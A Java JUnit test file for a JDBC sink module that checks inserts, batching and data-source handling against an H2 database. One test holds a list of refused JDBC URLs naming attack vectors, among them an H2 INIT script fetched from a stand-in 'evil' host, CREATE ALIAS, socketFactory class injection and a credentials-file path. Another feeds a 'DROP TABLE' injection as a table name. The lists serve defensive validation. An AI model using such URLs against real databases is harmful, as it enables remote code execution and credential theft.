package io.xd.modules.builtin.jdbc;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.xd.modules.HostAccess;
import io.xd.modules.ModuleMessages;
import io.xd.modules.ModuleOptionException;
import io.xd.modules.builtin.file.ModuleFixtures;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;
import static org.awaitility.Awaitility.await;

/** The jdbc sink against an H2 database in a temporary directory (PostgreSQL: JdbcSinkPostgresIntegrationTests). */
class JdbcSinkTests {

	@TempDir
	Path dir;

	private String url() {
		return "jdbc:h2:file:" + this.dir.resolve("db");
	}

	/** The operator's settings: data sources "test" (H2 in the test's folder) and "down", and two URL patterns. */
	private HostAccess access() {
		return ModuleFixtures.rootedAt(this.dir)
			.withDataSources(Map.of("test", new HostAccess.DataSource(url(), "sa", ""), "down",
					new HostAccess.DataSource("jdbc:postgresql://127.0.0.1:1/none", "xd", "s3cret-pw")))
			.withAllowedJdbcUrls(List.of("jdbc:postgresql://db.internal:5432/*", "jdbc:h2:mem:*"));
	}

	private JdbcSink sink(Map<String, String> options) {
		Map<String, String> all = new HashMap<>(Map.of("dataSource", "test"));
		all.putAll(options);
		return ModuleFixtures.create(new JdbcSink.Provider(), all, access());
	}

	private JdbcSink sinkWithUrl(String url) {
		return ModuleFixtures.create(new JdbcSink.Provider(), Map.of("url", url, "tableName", "t"), access());
	}

	@Test
	void insertsPlainPayloadsIntoThePayloadColumn() throws SQLException {
		JdbcSink sink = sink(Map.of("tableName", "t", "initialize", "true"));
		sink.start();
		sink.handleMessage(ModuleMessages.of("hello"));
		sink.handleMessage(ModuleMessages.of("w\u00f6rld".getBytes()));
		sink.stop();

		assertThat(JdbcRows.query(connect(), "SELECT payload FROM t")).containsExactly(List.of("hello"),
				List.of("w\u00f6rld"));
	}

	@Test
	void mapsJsonFieldsToColumnsByName() throws SQLException {
		JdbcSink sink = sink(Map.of("tableName", "people", "columns", "name, first_name,age,tags",
				"initializeDatabase", "true"));
		sink.start();
		sink.handleMessage(ModuleMessages.of("{\"name\":\"Lovelace\",\"firstName\":\"Ada\",\"age\":36,\"tags\":[1]}"));
		sink.handleMessage(ModuleMessages.of("{\"name\":null}"));
		sink.stop();

		assertThat(JdbcRows.query(connect(), "SELECT name, first_name, age, tags FROM people")).containsExactly(
				List.of("Lovelace", "Ada", "36", "[1]"), JdbcRows.nulls(4));
	}

	@Test
	void convertsValuesToTheTypesOfAnExistingTable() throws SQLException {
		try (Connection connection = connect()) {
			connection.createStatement().execute("CREATE TABLE typed (n INTEGER, ok BOOLEAN, payload VARCHAR(20))");
		}
		JdbcSink sink = sink(Map.of("tableName", "typed", "columns", "n,ok,payload"));
		sink.start();
		sink.handleMessage(ModuleMessages.of("{\"n\":7,\"ok\":true}"));
		sink.stop();

		assertThat(JdbcRows.query(connect(), "SELECT n, ok, payload FROM typed"))
			.containsExactly(List.of("7", "TRUE", "{\"n\":7,\"ok\":true}"));
	}

	@Test
	void batchesRowsAndInsertsTheRestWhenIdle() throws SQLException {
		JdbcSink sink = sink(Map.of("tableName", "b", "initialize", "true", "batchSize", "3", "idleTimeout", "100"));
		sink.start();
		for (int i = 0; i < 4; i++) {
			sink.handleMessage(ModuleMessages.of("m" + i));
		}
		assertThat(JdbcRows.query(connect(), "SELECT payload FROM b")).hasSize(3);

		await().atMost(5, TimeUnit.SECONDS)
			.untilAsserted(() -> assertThat(JdbcRows.query(connect(), "SELECT payload FROM b")).hasSize(4));
		sink.stop();
	}

	@Test
	void stopInsertsWhatIsPending() throws SQLException {
		JdbcSink sink = sink(Map.of("tableName", "s", "initialize", "true", "batchSize", "100", "idleTimeout", "60000"));
		sink.start();
		sink.handleMessage(ModuleMessages.of("last"));
		sink.stop();

		assertThat(JdbcRows.query(connect(), "SELECT payload FROM s")).containsExactly(List.of("last"));
	}

	@Test
	void defaultsToAnH2DatabaseInTheDataDirectory() throws SQLException {
		JdbcSink sink = ModuleFixtures.create(new JdbcSink.Provider(), Map.of("initialize", "true"), this.dir);
		sink.start();
		sink.handleMessage(ModuleMessages.of("embedded"));
		sink.stop();

		Connection connection = DriverManager.getConnection("jdbc:h2:file:" + this.dir.resolve("jdbc/xd"), "sa", "");
		assertThat(JdbcRows.query(connection, "SELECT payload FROM teststream")).containsExactly(List.of("embedded"));
	}

	@Test
	void failsAtStartWhenTheTableIsMissing() {
		JdbcSink sink = sink(Map.of("tableName", "absent"));

		assertThatIllegalStateException().isThrownBy(sink::start)
			.withMessageContaining("The table absent does not exist; create it or give --initialize=true");
	}

	@Test
	void failsAtStartWithTheReasonWhenTheDatabaseRefusesTheConnectionAndShowsNoUrlOrPassword() {
		JdbcSink sink = sink(Map.of("dataSource", "down", "tableName", "t"));

		assertThatIllegalStateException().isThrownBy(sink::start)
			.withMessageContaining("The jdbc sink cannot use data source 'down'")
			.withMessageContaining("Connection")
			.withMessageNotContaining("s3cret-pw");
	}

	@Test
	void theEmbeddedH2DefaultNeedsNoSettings() throws SQLException {
		Path data = this.dir.resolve("data");
		JdbcSink sink = ModuleFixtures.create(new JdbcSink.Provider(), Map.of("tableName", "t", "initialize", "true"),
				data);
		sink.start();
		sink.handleMessage(ModuleMessages.of("embedded"));
		sink.stop();

		try (Connection connection = DriverManager.getConnection("jdbc:h2:file:" + data.resolve("jdbc/xd"), "sa",
				"")) {
			assertThat(JdbcRows.query(connection, "SELECT payload FROM t")).containsExactly(List.of("embedded"));
		}
	}

	@Test
	void aDefinitionNamesADeclaredDataSourceAndCarriesNoPassword() {
		assertThatExceptionOfType(ModuleOptionException.class)
			.isThrownBy(() -> sink(Map.of("dataSource", "nope", "tableName", "t")))
			.withMessageContaining("no data source of that name")
			.withMessageContaining("declared: down, test");
		assertThatExceptionOfType(ModuleOptionException.class)
			.isThrownBy(() -> sink(Map.of("tableName", "t", "password", "x")))
			.withMessageContaining("option 'password' is refused");
		assertThatExceptionOfType(ModuleOptionException.class)
			.isThrownBy(() -> sink(Map.of("tableName", "t", "url", "jdbc:h2:mem:x")))
			.withMessageContaining("refused with 'dataSource'");
	}

	@Test
	void aLiteralUrlMustMatchTheOperatorsPatternsAsTheDriverReadsIt() {
		assertThat(sinkWithUrl("jdbc:postgresql://db.internal:5432/orders?ApplicationName=xd&connectTimeout=5"))
			.isNotNull();
		assertThat(sinkWithUrl("jdbc:postgresql://DB.internal/orders")).isNotNull();
		assertThat(sinkWithUrl("jdbc:h2:mem:scratch;MODE=PostgreSQL;db_close_delay=-1")).isNotNull();
		List<String> refused = List.of("jdbc:postgresql://evil:5432/orders", "jdbc:postgresql://db.internal:5433/x",
				"jdbc:postgresql://db.internal:5432/orders?socketFactory=x.Y&socketFactoryArg=z",
				"jdbc:postgresql://db.internal:5432/orders?%73ocketFactory=x.Y",
				"jdbc:postgresql://db.internal:5432/orders?SOCKETFACTORY=x.Y",
				"jdbc:postgresql://db.internal:5432/orders?sslfactory=x.Y",
				"jdbc:postgresql://db.internal:5432/orders?sslrootcert=/etc/xd/credentials.properties",
				"jdbc:postgresql://db.internal:5432/orders?loggerFile=/tmp/x&loggerLevel=DEBUG",
				"jdbc:postgresql://db.internal:5432/orders?options=-c%20search_path%3Devil",
				"jdbc:postgresql://db.internal:5432/orders?password=p&user=u",
				"jdbc:postgresql://db.internal:5432/a/../b", "jdbc:postgresql://db.internal,evil:5432/orders",
				"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:mem:x;init=CREATE ALIAS",
				"jdbc:h2:mem:x; INIT =x", "jdbc:h2:mem:x;AUTO_SERVER=TRUE", "jdbc:h2:mem:x;MODE=x;TRACE_LEVEL_FILE=3",
				"jdbc:h2:tcp://evil/db", "jdbc:h2:file:/etc/db", "jdbc:h2:~/db", "jdbc:h2:zip:/x.zip!/db",
				"jdbc:h2:mem:../x", "jdbc:mysql://h/db", "jdbc:h2:mem:x\n;INIT=x");
		for (String url : refused) {
			assertThatExceptionOfType(ModuleOptionException.class).as(url)
				.isThrownBy(() -> sinkWithUrl(url))
				.withMessageContaining("option 'url'")
				.withMessageNotContaining("x.Y")
				.withMessageNotContaining("password=p");
		}
	}

	@Test
	void rejectsNamesThatAreNotIdentifiers() {
		assertThatExceptionOfType(ModuleOptionException.class)
			.isThrownBy(() -> sink(Map.of("tableName", "t; DROP TABLE x")))
			.withMessageContaining("option 'tableName' must be an SQL identifier");
		assertThatExceptionOfType(ModuleOptionException.class)
			.isThrownBy(() -> sink(Map.of("tableName", "t", "columns", "a,\"b\"")))
			.withMessageContaining("option 'columns' must be a comma-separated list");
		assertThatExceptionOfType(ModuleOptionException.class)
			.isThrownBy(() -> sink(Map.of("tableName", "t", "columns", "a,A")));
	}

	private Connection connect() throws SQLException {
		return DriverManager.getConnection(url(), "sa", "");
	}
}
